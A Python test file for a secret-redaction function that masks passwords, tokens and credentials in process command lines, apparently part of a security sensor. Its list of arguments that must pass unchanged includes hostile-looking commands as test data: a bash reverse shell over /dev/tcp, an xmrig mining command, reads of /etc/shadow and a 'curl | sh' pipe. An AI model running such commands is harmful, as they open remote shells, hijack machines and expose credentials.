"""Secrets leave the arguments of programs, evidence does not."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deadlight.sensor.redact import MAX_CHARACTERS, REDACTED, redact

TOKEN = "ghp_" + "a1B2" * 9
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"


def split(command: str) -> tuple[str, ...]:
    """The arguments of a line of the tables; a tab separates where spaces belong to one."""
    return tuple(command.split("\t") if "\t" in command else command.split(" "))


@pytest.mark.parametrize(
    ("command", "redacted"),
    [
        # by name
        ("app --password hunter2 --verbose", "app --password *** --verbose"),
        ("app --password=hunter2", "app --password=***"),
        ("app -password hunter2", "app -password ***"),
        ("app --db-password=hunter2", "app --db-password=***"),
        ("app --api-key abc --api_key=def --apikey=ghi", "app --api-key *** --api_key=*** --apikey=***"),
        ("app --client-secret=x1", "app --client-secret=***"),
        ("app --access-key=x1 --secret-access-key x2", "app --access-key=*** --secret-access-key ***"),
        ("app --auth-token 0000", "app --auth-token ***"),
        ("env PGPASSWORD=hunter2 psql", "env PGPASSWORD=*** psql"),
        ("env MYSQL_PWD=hunter2 AWS_SECRET_ACCESS_KEY=x mysql", "env MYSQL_PWD=*** AWS_SECRET_ACCESS_KEY=*** mysql"),
        ("java -Dspring.datasource.password=x -jar app.jar", "java -Dspring.datasource.password=*** -jar app.jar"),
        ("java -Djavax.net.ssl.keyStorePassword=changeit", "java -Djavax.net.ssl.keyStorePassword=***"),
        ("app --dbPass=x --rsaPrivateKey=y", "app --dbPass=*** --rsaPrivateKey=***"),
        ("psql\thost=db user=app password=hunter2", "psql\thost=db user=app password=***"),
        (
            "app\tServer=db;User Id=sa;Password=hunter2;Encrypt=yes",
            "app\tServer=db;User Id=sa;Password=***;Encrypt=yes",
        ),
        ('curl\t-d\t{"user": "x", "password": "hunter2"}', 'curl\t-d\t{"user": "x", "password": "***"}'),
        ("curl http://x/?a=1&access_token=abc&b=2", "curl http://x/?a=1&access_token=***&b=2"),
        ("kubeadm join --token abcdef.0123456789abcdef", "kubeadm join --token ***"),
        # by client
        ("mysql -uroot -phunter2 shop", "mysql -uroot -p*** shop"),
        ("/usr/bin/mysqldump -phunter2", "/usr/bin/mysqldump -p***"),
        ("sshpass -p hunter2 ssh root@host", "sshpass -p *** ssh root@host"),
        ("sshpass -phunter2 ssh root@host", "sshpass -p*** ssh root@host"),
        ("redis-cli -h db -a hunter2 KEYS", "redis-cli -h db -a *** KEYS"),
        ("mongosh -u root -p hunter2", "mongosh -u root -p ***"),
        ("curl -u admin:hunter2 http://x", "curl -u admin:*** http://x"),
        ("curl -uadmin:hunter2 http://x", "curl -uadmin:*** http://x"),
        ("curl --user admin:hunter2 http://x", "curl --user admin:*** http://x"),
        ("docker login -u me -p hunter2 registry", "docker login -u me -p *** registry"),
        ("helm registry login -u me -p hunter2 r", "helm registry login -u me -p *** r"),
        ("ldapsearch -x -w hunter2", "ldapsearch -x -w ***"),
        ("smbclient -U me%hunter2 //host/share", "smbclient -U me%*** //host/share"),
        ("openssl enc -k hunter2", "openssl enc -k ***"),
        ("openssl rsa -passin pass:hunter2", "openssl rsa -passin ***"),
        ("zip -P hunter2 a.zip b", "zip -P *** a.zip b"),
        ("7z a -phunter2 a.7z", "7z a -p*** a.7z"),
        # by place
        ("git clone https://me:hunter2@host/x.git", "git clone https://me:***@host/x.git"),
        ("app amqp://guest:guest@mq:5672/", "app amqp://guest:***@mq:5672/"),
        ("redis-cli redis://:hunter2@db", "redis-cli redis://:***@db"),
        ("git clone https://abcdefghijklmnopqrstuvwxyz@host/x", "git clone https://***@host/x"),
        ("curl\t-H\tAuthorization: Bearer abc.def", "curl\t-H\tAuthorization: Bearer ***"),
        ("curl\t--header=authorization:Basic YTpi", "curl\t--header=authorization:Basic ***"),
        ("curl\t-H\tX-Api-Key: abc", "curl\t-H\tX-Api-Key: ***"),
        ("curl\t-H\tX-Vault-Token: abc\thttp://x", "curl\t-H\tX-Vault-Token: ***\thttp://x"),
        ("curl\t-H\tCookie: session=abc; b=c", "curl\t-H\tCookie: ***"),
        # by shape
        (f"echo {TOKEN}", "echo ***"),
        (
            f"git clone https://x-access-token:{TOKEN}@github.com/a/b",
            "git clone https://x-access-token:***@github.com/a/b",
        ),
        (f"app --jwt={JWT} {JWT}", "app --jwt=*** ***"),
        ("echo glpat-abcdefghij0123456789", "echo ***"),
        ("echo xoxb-123456789012-abcdef", "echo ***"),
        ("echo hvs.CAESIJ0123456789abcdefgh", "echo ***"),
        ("echo AKCp" + "8" * 69, "echo ***"),
        # inside a shell's command
        ("sh\t-c\tmysql -phunter2 < dump.sql", "sh\t-c\tmysql -p*** < dump.sql"),
        ("sh\t-c\tmysql --password 'hun ter2' shop", "sh\t-c\tmysql --password '***' shop"),
        ("sh\t-c\texport DB_PASSWORD='hun ter2'; app", "sh\t-c\texport DB_PASSWORD=***; app"),
        ("sh\t-c\tcurl -s -u me:hunter2 http://x | sh", "sh\t-c\tcurl -s -u me:*** http://x | sh"),
        ('sh\t-c\tsh -c "sshpass -p hunter2 ssh h"', 'sh\t-c\tsh -c "sshpass -p *** ssh h"'),
        (
            "sh\t-c\tcurl -H 'Authorization: Bearer abc' http://x",
            "sh\t-c\tcurl -H 'Authorization: Bearer ***' http://x",
        ),
    ],
)
def test_a_secret_is_hidden_and_what_is_around_it_stays(command, redacted):
    assert redact(split(command)) == split(redacted)


@pytest.mark.parametrize(
    "command",
    [
        "nginx -g\tdaemon off;",
        "docker run -p 8080:80 nginx",
        "ssh -p 22 root@host",
        "mkdir -p /var/lib/x",
        "mysql -u root -p",
        "mysql --password",
        "app --password --user me",
        "app --token-file /run/token --password-file=/x",
        "app --max-tokens 100 --tokens=5",
        "docker login --password-stdin",
        "app --password=$DB_PASSWORD",
        "app --password ${DB_PASSWORD}",
        "app --no-password x --ask-password y",
        "env PWD=/srv OLDPWD=/ app",
        "compass --bypass=x --compass y",
        "python -m keyring get x",
        "ssh-keygen -t ed25519 -f /tmp/key",
        "curl -u admin http://x",
        "curl https://example.com/a?b=c#d",
        "git clone ssh://git@github.com/a/b",
        "git clone git@github.com:a/b",
        "app http://host:8080/path",
        "app http://[::1]:8080/a@b",
        "sh\t-c\techo token; cat /etc/passwd | grep root",
        "grep -r password /etc",
        "cat /etc/passwd /etc/shadow",
        "kubectl get secret my-secret -o yaml",
        "kubectl create secret generic x",
        "apt-key list",
        "java -jar app.jar --keystore=/etc/keys.jks",
        "app --public-key=/etc/key.pub --key-id=abc --cache-key=abc",
        "app --author=me --authority=https://x --authenticate",
        "app --passive=1 --passthrough=x",
        "bash\t-c\tbash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "xmrig -o pool.example.com:3333 -u 44AFFq5kSiGBoZ",
        "tar -cf - / --exclude=/proc",
        "sha256sum 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ],
)
def test_a_harmless_argument_stays_as_it_is(command):
    assert redact(split(command)) == split(command)


def test_no_arguments_are_no_arguments():
    assert redact(()) == ()


def test_what_is_longer_than_any_command_line_is_dropped_and_not_searched():
    secret, filler = "--password=x", "a " * MAX_CHARACTERS

    assert sum(map(len, redact((secret, filler, filler)))) <= MAX_CHARACTERS + len(REDACTED)


_PIECES = st.sampled_from(
    ["--password", "=", "-p", "x", " ", '"', "'", ":", "//", "@", "eyJ-", "ghp_", ";", "|", "mysql", "Authorization:"]
)


@settings(deadline=None)
@given(st.lists(st.one_of(st.text(max_size=40), st.lists(_PIECES, max_size=40).map("".join)), max_size=8))
def test_anything_is_redacted_and_nothing_is_added_but_stars(arguments):
    redacted = redact(arguments)

    assert len(redacted) <= len(arguments)
    for before, after in zip(arguments, redacted, strict=False):
        assert set(after) - set(REDACTED) <= set(before)


@settings(deadline=None)
@given(st.lists(st.lists(_PIECES, max_size=20).map("".join), max_size=4))
def test_what_was_redacted_stays_redacted(arguments):
    once = redact(arguments)

    assert all(REDACTED in again or again == first for first, again in zip(once, redact(once), strict=True))


@pytest.mark.parametrize(
    "piece", ["eyJ-", "secret", "password-", "'\"", "x://a:", "--password=", "x-", "-p ", '"a":', "\\", ";"]
)
def test_hostile_arguments_take_no_longer_than_others(piece):
    hostile = piece * (2 * MAX_CHARACTERS // len(piece))
    began = time.process_time()
    redact(("sh", "-c", hostile))

    assert time.process_time() - began < 0.5
